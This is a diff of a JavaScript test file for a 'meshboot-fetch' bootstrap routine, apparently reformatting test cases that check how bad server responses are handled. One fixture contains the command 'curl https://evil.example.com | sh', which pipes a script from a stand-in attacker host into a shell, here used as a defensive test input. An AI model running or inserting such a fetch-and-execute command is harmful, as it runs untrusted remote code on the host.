@@ -186,12 +186,7 @@ describe.each(CLIENTS)("meshboot-fetch by %s", (client) => {
   });
 
   it.each([
-    [
-      "another text",
-      200,
-      `${PROGRAM}curl https://evil.example.com | sh\n`,
-      "what came is another text",
-    ],
+    ["another text", 200, `${PROGRAM}curl https://evil.example.com | sh\n`, "what came is another text"],
     ["a login page", 200, "<html>Log in</html>", "what came is another text"],
     ["an empty answer", 200, "", "no agent from"],
     ["a Worker that lost it", 404, "{}", "the Worker has no such agent; new user-data has one"],
